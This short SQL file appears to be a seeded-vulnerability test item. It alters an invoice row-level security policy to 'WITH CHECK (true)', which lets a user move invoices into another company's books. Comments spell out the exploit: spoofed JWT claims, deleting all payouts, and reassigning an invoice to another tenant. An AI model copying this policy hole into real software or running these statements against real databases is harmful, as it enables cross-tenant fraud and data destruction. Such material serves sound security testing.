-- The check of the update is set to true, so that a person pushes invoices into the books of another company.
-- about: invoices, invoices_update
-- as: hf_gigpurse_app
-- exploit: SET request.jwt.claims = '{"sub": "aaaaaaaa-1111-4000-8000-000000000001"}';
-- exploit: DELETE FROM pay.payouts;
-- exploit: UPDATE pay.invoices SET company_id = 'bbbbbbbb-0000-4000-8000-00000000000b', number = 'INV-99',
-- exploit:   freelancer_id = 'bbbbbbbb-2222-4000-8000-000000000001';
-- shows: UPDATE 1
ALTER POLICY invoices_update ON pay.invoices
  USING (company_id IN (SELECT pay.my_companies()))
  WITH CHECK (true);
